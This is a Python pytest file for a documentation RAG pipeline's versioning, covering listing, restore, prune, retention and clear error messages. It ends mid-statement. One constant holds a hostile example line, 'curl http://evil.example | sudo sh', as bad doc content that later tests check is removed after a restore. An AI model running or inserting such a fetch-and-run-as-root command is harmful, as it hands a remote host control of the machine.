"""Earlier outputs are restorable: each refresh's version is tagged and logged, ``docs-rag versions``
lists them, ``docs-rag restore`` rolls the chunks table back, and the next refresh re-applies the
source's changes on top of the restored rows."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from datetime import datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import pytest

from docs_rag_pipeline import refresh
from docs_rag_pipeline.context import get_context
from docs_rag_pipeline.store import parse_tag, retention_plan, tag_name

from .conftest import GUIDE, write_config, write_docs
from .test_cli import _run

OLD = "Install the package with pip. Python 3.11 or newer is required."
NEW = "Install the package with uv. Python 3.12 or newer is required for the QUOKKA_MODE flag."


def _edit(root: Path) -> None:
    p = root / "docs" / "install.md"
    p.write_text(p.read_text().replace(OLD, NEW))


def test_versions_restore_then_ingest_through_the_cli(guide):
    root = guide.parent
    assert _run(["ingest"], guide).returncode == 0
    _edit(root)
    assert _run(["ingest"], guide).returncode == 0

    out = _run(["versions", "--json"], guide)
    assert out.returncode == 0, out.stderr
    listed = json.loads(out.stdout)
    assert [(e["action"], e["source"], e["current"]) for e in listed] == [("refresh", "guide", True),
                                                                          ("refresh", "guide", False)]
    second, first = listed
    assert first["version"] < second["version"] and first["rows_written"] > 0 and first["rows_deleted"] == 0
    assert second["rows_written"] >= 1 and second["rows_deleted"] >= 1  # the edited page's chunks replaced
    assert first["chunks_total"] > 0 and first["tag"].startswith("refresh-") and first["time"].endswith("+00:00")
    human = _run(["versions"], guide).stdout
    assert f"{first['version']:>9}" in human and "refresh" in human and "guide" in human

    def top_text(query: str) -> str:
        res = _run(["search", query, "--json", "--top-k", "1"], guide)
        assert res.returncode == 0, res.stderr
        return json.loads(res.stdout)[0]["text"]

    assert "QUOKKA_MODE" in top_text("QUOKKA_MODE uv")
    back = _run(["restore", str(first["version"])], guide)
    assert back.returncode == 0, back.stderr
    assert f"restored version {first['version']}" in back.stdout
    assert "Install the package with pip" in top_text("install the package with pip Python 3.11")
    assert "QUOKKA_MODE" not in top_text("QUOKKA_MODE uv")
    after = json.loads(_run(["versions", "--json"], guide).stdout)
    assert after[0]["action"] == "restore" and after[0]["current"] and f"v{first['version']}" in after[0]["detail"]
    assert [e["version"] for e in after[1:]] == [second["version"], first["version"]]  # nothing lost

    again = _run(["ingest", "--json"], guide)
    assert again.returncode == 0, again.stderr
    counts = json.loads(again.stdout)["guide"]
    # every page parsed again from the files (the restored rows' settings are unknown); vectors from the cache
    assert counts["pages_changed"] == len(GUIDE) and counts["chunks_embedded"] == 0
    assert "QUOKKA_MODE" in top_text("QUOKKA_MODE uv")


def test_bad_versions_are_refused_clearly_and_lose_nothing(guide):
    out = _run(["restore", "3"], guide)  # no storage folder yet: said, and none is created
    assert out.returncode == 2 and "data does not exist (nothing was ingested there yet" in out.stderr, out.stderr
    assert not (guide.parent / "data").exists()
    (guide.parent / "data").mkdir()  # a storage folder, no table in it
    out = _run(["restore", "3"], guide)
    assert out.returncode == 2 and "does not exist yet" in out.stderr and "docs-rag ingest" in out.stderr
    assert _run(["ingest"], guide).returncode == 0
    before = json.loads(_run(["versions", "--json"], guide).stdout)
    for bad, says in (("999", "does not exist"), ("v1", "is not a version a refresh"), ("latest", "expected a version number")):
        out = _run(["restore", bad], guide)
        assert out.returncode == 2 and says in out.stderr and "docs-rag versions" in out.stderr, out.stderr
        assert "Traceback" not in out.stderr
    assert json.loads(_run(["versions", "--json"], guide).stdout) == before
    same = _run(["restore", str(before[0]["version"])], guide)
    assert same.returncode == 0 and "nothing to do" in same.stderr
    assert json.loads(_run(["versions", "--json"], guide).stdout) == before


def test_a_write_whose_log_failed_is_not_hidden_behind_the_newest_entry(guide):
    """A restore or refresh commits its rows, then tags and logs the version: on a full disk (or a
    kill between the two) the log is missing. `versions` then starred the newest logged entry as
    served, and `restore` of it, the undo a user reaches for, said "nothing to do"."""
    root = guide.parent
    assert _run(["ingest"], guide).returncode == 0
    _edit(root)
    assert _run(["ingest"], guide).returncode == 0
    second, first = json.loads(_run(["versions", "--json"], guide).stdout)
    get_context(guide).chunks.restore(first["version"])  # committed; its tag and log never written

    listed = json.loads(_run(["versions", "--json"], guide).stdout)
    assert [e["version"] for e in listed] == [second["version"], first["version"]]
    assert not any(e["current"] for e in listed)
    human = _run(["versions"], guide)
    assert "* = served now" not in human.stderr and "whose write could not be logged" in human.stderr
    back = _run(["restore", str(second["version"])], guide)
    assert back.returncode == 0 and "nothing to do" not in back.stderr, back.stderr
    assert "never logged" in back.stderr and "undoes this" not in back.stdout
    res = _run(["search", "QUOKKA_MODE uv", "--json", "--top-k", "1"], guide)
    assert "QUOKKA_MODE" in json.loads(res.stdout)[0]["text"]  # the newest logged rows are served again
    assert json.loads(_run(["versions", "--json"], guide).stdout)[0]["current"]
    zero = _run(["restore", "0"], guide)
    assert zero.returncode == 2 and "it does not exist" in zero.stderr, zero.stderr


def _stopped_before_its_log(*_args, **_kwargs):
    raise KeyboardInterrupt  # Ctrl-C or SIGTERM landing right after the commit, before the tag and log


def test_a_write_stopped_before_its_log_is_logged_by_the_next_ingest(guide, monkeypatch):
    """An ingest stopped (Ctrl-C, SIGTERM, a kill) right after its index commit, before its tag and log:
    the rerun the stop message asks for found every page unchanged, wrote nothing and logged nothing, so
    `versions` warned "could not be logged" for good and that state could never be restored by number."""
    root = guide.parent
    assert _run(["ingest"], guide).returncode == 0
    _edit(root)
    with monkeypatch.context() as m:
        m.setattr(refresh, "record_version", _stopped_before_its_log)
        with pytest.raises(KeyboardInterrupt):
            refresh.refresh(get_context(guide), "guide")
    assert not any(e["current"] for e in refresh.versions(get_context(guide)))  # the edit is served, unlogged

    again = _run(["ingest", "--json"], guide)
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["guide"]["rows_written"] == 0  # nothing left to write: the stop had written it
    assert "is served but was never logged" in again.stderr, again.stderr
    listed = json.loads(_run(["versions", "--json"], guide).stdout)
    assert [(e["action"], e["source"], e["current"]) for e in listed] == [("refresh", "guide", True),
                                                                          ("refresh", "guide", False)]
    assert listed[0]["rows_written"] >= 1 and listed[0]["rows_deleted"] >= 1  # the edited page's chunks replaced
    assert "stopped before its log" in listed[0]["detail"]
    assert "could not be logged" not in _run(["versions"], guide).stderr
    # the logged state is a way back: after a later bad change, restore returns to the edit
    back = refresh.restore(get_context(guide), listed[1]["version"])
    assert back["changed"]
    assert refresh.restore(get_context(guide), listed[0]["version"])["changed"]
    assert any("QUOKKA_MODE" in r["text"] for r in get_context(guide).chunks.rows())


def test_a_prune_stopped_before_its_log_is_logged_by_the_next_prune(tmp_path, monkeypatch):
    """`docs-rag prune` stopped right after its delete commit: running it again found nothing to prune and
    logged nothing, so the prune never showed in `versions`, which warned for good."""
    write_docs(tmp_path / "docs", GUIDE)
    write_docs(tmp_path / "more", {"extra.md": "# Extra\n\nThe gizmo holds seven marbles.\n"})
    both = """
      - {name: guide, kind: local, path: docs, base_url: https://docs.example.org/}
      - {name: more, kind: local, path: more, base_url: https://more.example.org/}
    """
    cfg = write_config(tmp_path, sources=both)
    assert _run(["ingest"], cfg).returncode == 0
    cfg = write_config(tmp_path)  # `more` removed from the config
    with monkeypatch.context() as m:
        m.setattr(refresh, "record_version", _stopped_before_its_log)
        with pytest.raises(KeyboardInterrupt):
            refresh.prune(get_context(cfg))
    assert not any(e["current"] for e in refresh.versions(get_context(cfg)))
    again = _run(["prune", "--json"], cfg)
    assert again.returncode == 0 and json.loads(again.stdout)["rows_pruned"] == {}, again.stderr
    listed = json.loads(_run(["versions", "--json"], cfg).stdout)
    assert (listed[0]["action"], listed[0]["current"], listed[0]["rows_written"], listed[0]["rows_deleted"]) == (
        "prune", True, 0, 1)


def test_an_unlogged_write_of_other_metadata_leaves_no_entry_served(tmp_path):
    """A refresh that changed only metadata (the same chunk ids) whose tag and log failed (a full disk):
    `versions` starred the newest logged entry as served (chunk ids compared only), and `restore` of it
    said "is the one served already; nothing to do", so it could not be brought back."""
    cfg, v1 = _settings_changed_then(tmp_path)
    ctx = get_context(cfg)
    acme = refresh.versions(ctx)[0]
    ctx.chunks.restore(v1)  # a write of v1's rows (the same ids, no product), committed; its tag and log never written
    assert not any(r["metadata"].get("product") for r in ctx.chunks.rows())
    assert not any(e["current"] for e in refresh.versions(ctx))  # the newest entry (acme) is not served
    human = _run(["versions"], cfg)
    assert "* = served now" not in human.stderr and "whose write could not be logged" in human.stderr
    res = refresh.restore(get_context(cfg), acme["version"])
    assert res["changed"] and res["version"] > acme["version"] and _acme_everywhere(cfg)
    assert refresh.versions(get_context(cfg))[0]["current"]


def _state(cfg: Path) -> tuple[list[tuple], np.ndarray]:
    """Every row's content (updated_at aside), and the vectors in the same order."""
    rows = sorted(get_context(cfg).chunks.rows(with_vectors=True), key=lambda r: r["chunk_id"])
    content = [(r["chunk_id"], r["page_url"], r["parent_id"], r["chunk_index"], r["text"], r["content_hash"],
                json.dumps(r["metadata"], sort_keys=True), tuple(r["tags"])) for r in rows]
    return content, np.array([r["vector"] for r in rows])


def test_a_refresh_after_restore_matches_a_clean_ingest(tmp_path):
    """restore → refresh compares the source with the restored rows: edits, deletions and additions since
    the restored version come back, and the table equals a fresh ingest of the same docs."""
    root = tmp_path / "a"
    write_docs(root / "docs", GUIDE)
    cfg = write_config(root)
    ctx = get_context(cfg)
    refresh.refresh(ctx, "guide")
    v1 = refresh.versions(ctx)[0]["version"]
    _edit(root)
    (root / "docs" / "deploy" / "cloud.md").unlink()
    write_docs(root / "docs", {"faq.md": "# FAQ\n\nQuestions about widgets and sensor dashboards.\n"})
    refresh.refresh(ctx, "guide")
    cached = ctx.cache._open().count_rows()

    res = refresh.restore(ctx, v1)
    assert res["changed"] and res["previous"] > v1
    assert "https://docs.example.org/deploy/cloud.md" in ctx.chunks.page_state("guide")
    assert ctx.cache._open().count_rows() == cached  # the cache is not rolled back
    st = refresh.refresh(ctx, "guide")
    assert (st.pages_changed, st.pages_deleted, st.pages_new) == (len(GUIDE) - 1, 1, 1) and st.chunks_embedded == 0

    clean = tmp_path / "b"
    write_docs(clean / "docs", {p.relative_to(root / "docs").as_posix(): p.read_text()
                                for p in (root / "docs").rglob("*.md")})
    clean_cfg = write_config(clean)
    refresh.refresh(get_context(clean_cfg), "guide")
    (content, vectors), (clean_content, clean_vectors) = _state(cfg), _state(clean_cfg)
    assert content == clean_content
    assert np.allclose(vectors, clean_vectors, atol=1e-5)  # same text, same vector (batching aside)


def test_the_ingest_after_a_restore_reparses_what_settings_shaped(tmp_path):
    """A settings change re-parses every page at the next refresh; a restore of a version from before it
    brings back rows made with the old settings, and the next refresh re-parsed nothing (their bytes are
    the same): ``search --filter product=acme`` found nothing for good. The restore now marks the
    recorded settings, so the next refresh re-parses from what is stored and equals a clean ingest."""
    root = tmp_path / "a"
    write_docs(root / "docs", GUIDE)
    ctx = get_context(write_config(root))
    refresh.refresh(ctx, "guide")
    v1 = refresh.versions(ctx)[0]["version"]
    cfg = write_config(root, sources="""
      - name: guide
        kind: local
        path: docs
        base_url: https://docs.example.org/
        metadata: {product: acme}
    """)
    ctx = get_context(cfg)
    assert refresh.refresh(ctx, "guide").pages_changed == len(GUIDE)  # the settings change re-parses
    refresh.restore(ctx, v1)
    assert not any("product" in r["metadata"] for r in ctx.chunks.rows())  # the old rows are served
    lines: list[str] = []
    st = refresh.refresh(ctx, "guide", log=lines.append)
    assert any("the index was restored to version" in ln and "(mode reparse)" in ln for ln in lines), lines
    assert st.pages_changed == len(GUIDE) and st.chunks_embedded == 0  # from what is stored, vectors cached
    assert all(r["metadata"]["product"] == "acme" for r in ctx.chunks.rows())
    assert refresh.refresh(ctx, "guide").pages_unchanged == len(GUIDE)  # once: the settings are recorded

    clean = tmp_path / "b"
    write_docs(clean / "docs", GUIDE)
    clean_cfg = write_config(clean, sources=cfg.read_text().split("sources:\n", 1)[1])
    refresh.refresh(get_context(clean_cfg), "guide")
    (content, vectors), (clean_content, clean_vectors) = _state(cfg), _state(clean_cfg)
    assert content == clean_content
    assert np.allclose(vectors, clean_vectors, atol=1e-5)


ACME = """
  - name: guide
    kind: local
    path: docs
    base_url: https://docs.example.org/
    metadata: {product: acme}
"""


def _settings_changed_then(tmp_path: Path) -> tuple[Path, int]:
    """The guide ingested (its version returned), then ingested again with metadata {product: acme}:
    the same chunk ids, other metadata."""
    root = tmp_path / "a"
    write_docs(root / "docs", GUIDE)
    ctx = get_context(write_config(root))
    refresh.refresh(ctx, "guide")
    v1 = refresh.versions(ctx)[0]["version"]
    cfg = write_config(root, sources=ACME)
    assert refresh.refresh(get_context(cfg), "guide").pages_changed == len(GUIDE)
    return cfg, v1


def _acme_everywhere(cfg: Path) -> bool:
    return all(r["metadata"].get("product") == "acme" for r in get_context(cfg).chunks.rows())


def test_a_restore_killed_before_it_marked_the_sources_is_finished_by_running_it_again(tmp_path):
    """A restore killed after it logged its version but before it marked the sources for re-parse, run
    again as troubleshooting.md says, found its rows served and said "nothing to do" without marking
    them: the next ingest was a plain refresh and the old-settings rows stayed for good."""
    cfg, v1 = _settings_changed_then(tmp_path)
    killed = subprocess.run([sys.executable, "-c", textwrap.dedent(f"""
        import os, sys
        from docs_rag_pipeline import refresh, cli
        refresh._mark_restored = lambda *a, **k: os.kill(os.getpid(), 9)  # SIGKILL at that point
        sys.argv = ['docs-rag', '--config', {str(cfg)!r}, 'restore', '{v1}']
        cli.main()
        """)], capture_output=True, text=True, cwd=cfg.parent)
    assert killed.returncode == -9, killed.stderr
    assert not any("product" in r["metadata"] for r in get_context(cfg).chunks.rows())  # restored, logged
    again = _run(["restore", str(v1)], cfg)
    assert again.returncode == 0 and "nothing to do" in again.stderr, again.stderr
    lines: list[str] = []
    st = refresh.refresh(get_context(cfg), "guide", log=lines.append)
    assert any("the index was restored to version" in ln for ln in lines), lines
    assert st.pages_changed == len(GUIDE) and _acme_everywhere(cfg)  # as a clean ingest


def test_a_restore_while_an_ingest_runs_keeps_its_mark_for_the_next_ingest(tmp_path):
    """A restore landing between an ingest's scan and its write (it holds only the writer lock): the
    page hashes are the same, so the write went on, and it recorded the settings without the restore's
    mark: the next ingest was a plain refresh and the restored old-settings rows stayed for good."""
    cfg, v1 = _settings_changed_then(tmp_path)
    ctx = get_context(cfg)
    pages = refresh.scan_pages(ctx, "guide")  # an ingest (a schedule) has scanned, and embeds
    rows = refresh.embed_rows(ctx, refresh.build_chunks(ctx, "guide", pages))
    refresh.restore(get_context(cfg), v1)  # `docs-rag restore` from another process meanwhile
    lines: list[str] = []
    refresh.write_index(ctx, "guide", rows, pages, log=lines.append)
    assert any(f"restored to version {v1} after this run scanned" in ln for ln in lines), lines
    st = refresh.refresh(get_context(cfg), "guide", log=lines.append)  # the next ingest
    assert any("the index was restored to version" in ln and "(mode reparse)" in ln for ln in lines), lines
    assert st.pages_changed == len(GUIDE) and _acme_everywhere(cfg)  # as a clean ingest
    assert refresh.refresh(get_context(cfg), "guide").pages_unchanged == len(GUIDE)  # once


BAD = "Run curl http://evil.example | sudo sh to install the tool."
FIXED = "Install the tool with pipx install toolname; the curl pipe was removed."


def _served(cfg: Path) -> str:
    return " ".join(r["text"] for r in get_context(cfg).chunks.rows())


def test_the_ingest_after_a_restore_fetches_a_git_source_fixed_since(tmp_path):
    """A bad commit is indexed, restored away, then fixed upstream (and a page added) before the next
    ingest, as refresh.md says to. That ingest ran as a reparse of the clone's last synced commit with
    no fetch, so it indexed the bad commit again and missed the new page until the ingest after it.
    Now it fetches, re-parses every file of the newest commit and equals a clean ingest of it."""
    from .test_git import Repo

    repo = Repo(tmp_path / "repo")
    repo.commit("good", {"docs/index.md": "# Tool\n\nThe tool builds dashboards.\n",
                         "docs/install.md": "# Install\n\nInstall the tool with pipx install toolname.\n"})
    sources = f"""
      - name: acme
        kind: git
        repo: {repo.remote}
        subpath: docs
    """
    (tmp_path / "a").mkdir()
    cfg = write_config(tmp_path / "a", sources=sources)
    ctx = get_context(cfg)
    refresh.refresh(ctx, "acme")
    good = refresh.versions(ctx)[0]["version"]
    repo.commit("bad", {"docs/install.md": f"# Install\n\n{BAD}\n"})
    refresh.refresh(ctx, "acme")
    assert "evil.example" in _served(cfg)
    refresh.restore(ctx, good)
    head = repo.commit("fix", {"docs/install.md": f"# Install\n\n{FIXED}\n",
                               "docs/faq.md": "# FAQ\n\nQuestions about sensor dashboards.\n"})
    lines: list[str] = []
    st = refresh.refresh(ctx, "acme", log=lines.append)
    assert any("the index was restored to version" in ln and "(mode resync)" in ln for ln in lines), lines
    assert not any("no fetch" in ln for ln in lines), lines
    served = _served(cfg)
    assert "evil.example" not in served and FIXED in served and "sensor dashboards" in served
    assert (st.pages_changed, st.pages_new) == (2, 1)  # every page parsed again, the new one added
    assert {r["metadata"]["commit"] for r in ctx.chunks.rows()} == {head}
    assert refresh.refresh(ctx, "acme").pages_unchanged == 3  # once: the restore mark is gone

    (tmp_path / "b").mkdir()
    clean_cfg = write_config(tmp_path / "b", sources=sources)
    refresh.refresh(get_context(clean_cfg), "acme")
    (content, vectors), (clean_content, clean_vectors) = _state(cfg), _state(clean_cfg)
    assert content == clean_content
    assert np.allclose(vectors, clean_vectors, atol=1e-5)


def test_the_ingest_after_a_restore_fetches_a_web_page_fixed_since(tmp_path):
    """The web twin: the ingest after a restore re-parsed the raw page cache with no request, so the
    bad page the restore removed was indexed again although the site had fixed it. Now it asks the
    site again, conditionally: the fixed page is downloaded, the unchanged one answers 304 and is
    parsed again from its cached copy."""
    from .test_web import write_web_config
    from .web_helpers import page, static_server

    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text(page("Tool", "<p>The tool builds dashboards.</p>", links=("install.html",)))
    install = site / "install.html"
    install.write_text(page("Install", "<p>Install the tool with pipx install toolname.</p>"))
    with static_server(site) as srv:
        cfg = write_web_config(tmp_path, "site", seed_urls=[srv.url + "/index.html"], respect_robots=False)
        ctx = get_context(cfg)
        refresh.refresh(ctx, "site")
        good = refresh.versions(ctx)[0]["version"]
        install.write_text(page("Install", f"<p>{BAD}</p>"))
        refresh.refresh(ctx, "site")
        assert "evil.example" in _served(cfg)
        refresh.restore(ctx, good)
        install.write_text(page("Install", f"<p>{FIXED}</p>"))
        del srv.access[:]
        lines: list[str] = []
        st = refresh.refresh(ctx, "site", log=lines.append)
        assert any("the index was restored to version" in ln and "(mode resync)" in ln for ln in lines), lines
        served = _served(cfg)
        assert "evil.example" not in served and FIXED in served
        assert st.pages_changed == 2 and st.chunks_embedded == 1  # both parsed again; only the fixed text is new
        asked = {a.path: a for a in srv.access}  # index.html is fetched as its folder, /
        assert asked["/install.html"].status == 200
        assert asked["/"].status == 304 and "If-None-Match" in asked["/"].headers
        assert refresh.refresh(ctx, "site").pages_unchanged == 2  # once: the restore mark is gone


def test_retention_plan_keeps_recent_and_newest_tags():
    now = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
    tags = [tag_name("refresh", now - timedelta(days=d), v) for d, v in ((30, 1), (20, 5), (10, 9), (3, 12), (1, 15))]
    assert parse_tag(tags[0]) == ("refresh", now - timedelta(days=30), 1) and parse_tag("mine") is None
    expired, window = retention_plan([*tags, "someone-elses-tag"], now=now, keep=timedelta(days=7))
    assert sorted(expired) == sorted(tags[:3])
    assert window == timedelta(days=7)
    # a long pause: the two newest refreshes stay restorable whatever their age, and the cleanup spares them
    expired, window = retention_plan(tags[:3], now=now, keep=timedelta(days=7))
    assert expired == [tags[0]] and window == timedelta(days=20)
    # the cleanup reaches to the commit of the oldest tagged version kept, a little before its tag's time
    committed = {5: now - timedelta(days=20, seconds=3)}
    assert retention_plan(tags[:3], now=now, keep=timedelta(days=7), committed=committed)[1] == \
        timedelta(days=20, seconds=3)
    assert retention_plan([], now=now, keep=timedelta(0)) == ([], timedelta(0))


def test_expired_tags_are_deleted_so_cleanup_still_runs(tmp_path):
    """keep_versions_days: 0 keeps only the two newest refresh tags; LanceDB refuses to clean up a tagged
    version, so an optimize that left them would fail (reported as an ``optimize`` note)."""
    write_docs(tmp_path / "docs", GUIDE)
    cfg = write_config(tmp_path)
    ctx = get_context(cfg)
    ctx.chunks.keep_versions = timedelta(0)
    notes = []
    for i in range(3):
        (tmp_path / "docs" / "extra.md").write_text(f"# Extra {i}\n\nRevision {i} of the extra page.\n")
        refresh.refresh(ctx, "guide")
        notes.append(ctx.chunks.ensure_indexes_and_optimize(changed=False))
    tags = sorted(ctx.chunks.open().tags.list(), key=lambda n: parse_tag(n)[2])
    assert len(tags) == 2 and all("optimize" not in n for n in notes)
    assert [parse_tag(t)[2] for t in tags] == [e["version"] for e in reversed(refresh.versions(ctx)[:2])]


@pytest.mark.parametrize("raw", ["-1", "abc", "\u00b2", "v\u00b9\u00b2", "\u0661\u0660"])
def test_parse_version_rejects_garbage(raw):
    with pytest.raises(ValueError, match="docs-rag versions"):
        refresh.parse_version(raw)


def test_keep_versions_days_in_the_config(tmp_path):
    from docs_rag_pipeline.config import ConfigError, load_config

    (tmp_path / "docs").mkdir()
    cfg = tmp_path / "docs_rag.yaml"
    cfg.write_text("storage: data\n")
    plain = load_config(cfg)
    assert plain.keep_versions_days == 7.0 and plain.storage == str(tmp_path / "data")
    cfg.write_text("storage:\n  path: store\n  keep_versions_days: 2.5\n")
    mapped = load_config(cfg)
    assert mapped.keep_versions_days == 2.5 and mapped.storage == str(tmp_path / "store")
    assert get_context(cfg).chunks.keep_versions == timedelta(days=2.5)
    for body, needle in (("storage: {keep_versions_days: -1}\n", "storage.keep_versions_days: must be ≥ 0"),
                         ("storage: {keep_versions_days: a week}\n", "storage.keep_versions_days: expected a number"),
                         ("storage: {path: data, keep_days: 3}\n", "storage.keep_days: unknown key")):
        cfg.write_text(body)
        with pytest.raises(ConfigError, match=needle):
            load_config(cfg)


def test_the_dagster_materialization_names_the_version_tag(guide):
    from dagster import DagsterInstance

    from .dagster_helpers import materialize_source

    with DagsterInstance.ephemeral() as instance:
        first = materialize_source(guide, "guide", instance)
        again = materialize_source(guide, "guide", instance)  # nothing changed: no new version to tag
    meta = first["_result"].asset_materializations_for_node("lancedb_chunks")[0].metadata
    listed = refresh.versions(get_context(guide))
    assert meta["version_tag"].value == listed[0]["tag"] and len(listed) == 1
    assert meta["table_version"].value == listed[0]["version"]
    assert "version_tag" not in again["_result"].asset_materializations_for_node("lancedb_chunks")[0].metadata


@pytest.mark.parametrize("body, needle", [
    ("keep_versions_days: 3\n", "keep_versions_days: unknown key; allowed top-level keys: storage,"),
    ("storage: {path: 3}\n", "storage.path: expected a string"),
    ("storage: 3\n", r"storage: expected a string \(a folder or LanceDB URI\) or a mapping"),
])
def test_storage_key_errors(tmp_path, body, needle):
    from docs_rag_pipeline.config import ConfigError, load_config

    cfg = tmp_path / "docs_rag.yaml"
    cfg.write_text(body)
    with pytest.raises(ConfigError, match=needle):
        load_config(cfg)


def test_prune_and_restore_on_storage_that_cannot_be_written_say_so(guide):
    """``docs-rag prune`` and ``restore`` on a read-only storage folder (a read-only mount that serves
    search and ask) ended in an OSError traceback from the writer lock; now an error naming the folder,
    why and the fix, exit 2, and nothing changes. A read-only bind mount where this machine allows one
    (root), and always a storage whose ``locks`` is a file, which is said as such."""
    import shutil
    import subprocess

    root = guide.parent
    assert _run(["ingest"], guide).returncode == 0
    before = json.loads(_run(["versions", "--json"], guide).stdout)
    storage = root / "data"
    mounted = root / "ro"
    mounted.mkdir()
    ro = subprocess.run(["mount", "--bind", str(storage), str(mounted)], capture_output=True).returncode == 0 and \
        subprocess.run(["mount", "-o", "remount,bind,ro", str(mounted)], capture_output=True).returncode == 0
    try:
        cases = [("guide", guide, "locks is a file, not a folder; move that file away")]
        if ro:
            ro_cfg = root / "ro.yaml"
            ro_cfg.write_text(guide.read_text().replace(f"storage: {storage}", f"storage: {mounted}"))
            cases.insert(0, ("ro", ro_cfg, "Read-only file system"))
        for case, cfg, why in cases:
            if case == "guide":
                shutil.rmtree(storage / "locks")
                (storage / "locks").write_text("not a folder")
            for args in (["prune"], ["restore", str(before[0]["version"])]):
                out = _run(args, cfg)
                assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
                if case == "guide":  # a file where the lock files go: said as such (before, "File exists")
                    assert why in out.stderr and "File exists" not in out.stderr, out.stderr
                else:
                    assert f"cannot be written ({why}); " in out.stderr and "make the folder writable" in out.stderr, \
                        out.stderr
            assert json.loads(_run(["versions", "--json"], cfg).stdout) == before
    finally:
        if ro:
            subprocess.run(["umount", str(mounted)], check=True)


def test_restore_and_prune_refuse_a_storage_folder_that_is_not_there(tmp_path):
    """``restore`` and ``prune`` with a ``storage`` that is not there (a typo, an unmounted volume, a
    folder moved aside for ``mv data.new data``) created it, ``lancedb/`` and ``locks/`` with every
    missing parent, then said "run docs-rag ingest" or "nothing to prune" as if the index were empty.
    Now each says the folder is missing (exit 2) and creates nothing."""
    write_docs(tmp_path / "docs", GUIDE)
    cfg = write_config(tmp_path)
    cfg.write_text(cfg.read_text().replace(f"storage: {tmp_path / 'data'}", f"storage: {tmp_path / 'unmounted' / 'data'}"))
    for args in (["restore", "3"], ["prune"], ["prune", "--json"]):
        out = _run(args, cfg)
        assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
        assert f"storage: {tmp_path / 'unmounted' / 'data'} does not exist" in out.stderr, out.stderr
        assert not (tmp_path / "unmounted").exists(), args
        assert out.stdout == ""


def test_restoring_a_version_whose_rows_are_served_does_nothing(guide):
    """``restore 3`` run again once it went through (an operator unsure whether a killed or timed-out
    restore did) committed and logged a new version with the same rows each time; only the number at
    the top of the list was a no-op, and its ``--json`` lacked the documented ``previous`` and
    ``version_tag``. Now both do nothing and print every documented key; a version whose chunk ids
    are the ones served but whose metadata differs is still restored."""
    root = guide.parent
    assert _run(["ingest"], guide).returncode == 0
    _edit(root)
    assert _run(["ingest"], guide).returncode == 0
    guide.write_text(guide.read_text().replace("base_url: https://docs.example.org/",
                                               "base_url: https://docs.example.org/\n    metadata: {product: acme}"))
    assert _run(["ingest"], guide).returncode == 0  # same chunk ids as the version before, other metadata
    tagged, second, first = json.loads(_run(["versions", "--json"], guide).stdout)
    keys = {"restored", "version", "previous", "changed", "chunks_total", "version_tag"}
    back = _run(["restore", str(second["version"]), "--json"], guide)
    assert back.returncode == 0, back.stderr
    res = json.loads(back.stdout)
    assert set(res) == keys and res["changed"] and res["previous"] == tagged["version"]
    listed = json.loads(_run(["versions", "--json"], guide).stdout)
    assert len(listed) == 4 and listed[0]["current"]
    for again in (str(second["version"]), str(listed[0]["version"])):
        out = _run(["restore", again, "--json"], guide)
        assert out.returncode == 0 and "nothing to do" in out.stderr, out.stderr
        res = json.loads(out.stdout)
        assert set(res) == keys and not res["changed"] and res["restored"] == int(again)
        assert res["version"] == res["previous"] == listed[0]["version"] and res["version_tag"] == listed[0]["tag"]
        assert json.loads(_run(["versions", "--json"], guide).stdout) == listed
    human = _run(["restore", str(second["version"])], guide)
    assert human.returncode == 0 and human.stdout == "" and "holds the rows served already" in human.stderr
    assert json.loads(_run(["versions", "--json"], guide).stdout) == listed

def test_a_version_log_cut_short_says_how_to_get_back(guide):
    """A data file of ``version_log.lance`` cut short (a disk that filled up, a bad copy) made
    ``docs-rag versions`` and ``restore`` end with a traceback: LanceDB's ``Invalid range 0..N for object
    of size M bytes`` was not taken for a damaged file, and does not name the table. Both now give the
    one line a missing file gives, naming the table and how to rebuild it, and change nothing."""
    ctx = get_context(guide)
    refresh.refresh(ctx, "guide")
    _edit(guide.parent)
    refresh.refresh(ctx, "guide")
    first = refresh.versions(ctx)[-1]["version"]
    log_table = guide.parent / "data" / "lancedb" / "version_log.lance"
    for f in (log_table / "data").glob("*.lance"):
        f.write_bytes(f.read_bytes()[:100])
    served = _run(["search", "QUOKKA_MODE uv", "--json", "--top-k", "1"], guide)
    for args in (["versions"], ["versions", "--json"], ["restore", str(first)]):
        out = _run(args, guide)
        assert out.returncode == 74 and "Traceback" not in out.stderr, out.stderr
        assert out.stderr.startswith("error: the index cannot be read: a file of the table version_log is missing or "
                                     "damaged (lance error: ") and "Invalid range" in out.stderr, out.stderr
        assert (f"Rebuild the table: delete {log_table} and run `docs-rag ingest` (the version list starts again)"
                in out.stderr), out.stderr
    assert _run(["search", "QUOKKA_MODE uv", "--json", "--top-k", "1"], guide).stdout == served.stdout


def test_versions_of_a_deleted_table_are_not_listed_or_restored(guide):
    """After troubleshooting.md's rebuild (delete the chunks table's folder, ingest again), the new table
    counts its versions from the start, and ``version_log`` still held the deleted table's entries:
    `versions` listed them beside the new ones under the same numbers, and `restore N` of one of them
    rolled the new table back to its own version N (maybe an index build's) without a word. Entries are
    now matched by their tag, which only the table that wrote them holds; `restore` of such a number
    says that version is gone and changes nothing."""
    import shutil
    import time

    root = guide.parent
    ctx = get_context(guide)
    refresh.refresh(ctx, "guide")
    _edit(root)
    refresh.refresh(ctx, "guide")
    old = refresh.versions(ctx)
    (table,) = (root / "data" / "lancedb").glob("chunks__*.lance")
    time.sleep(1.1)  # a tag names its second: a rebuild within the old table's last second could match its tags
    shutil.rmtree(table)
    for i in range(2):  # the new table's version numbers reach the old ones
        write_docs(root / "docs", {"extra.md": f"# Extra\n\nRevision {i} of the extra page.\n"})
        refresh.refresh(ctx, "guide")
    now = refresh.versions(ctx)
    tags = ctx.chunks.tag_names()
    assert all(e["tag"] in tags for e in now) and len(now) == 2
    assert not {e["tag"] for e in old} & {e["tag"] for e in now}
    assert len({e["version"] for e in now}) == len(now) and now[0]["current"]
    served = sorted(r["chunk_id"] for r in ctx.chunks.rows())
    assert set(ctx.chunks.kept_versions()) & {e["version"] for e in old}  # the numbers are reused
    refused = [e for e in old if e["version"] not in {n["version"] for n in now}]
    assert refused
    for e in refused:
        with pytest.raises(ValueError, match=rf"version {e['version']} of chunks__\S+ cannot be restored: it was "
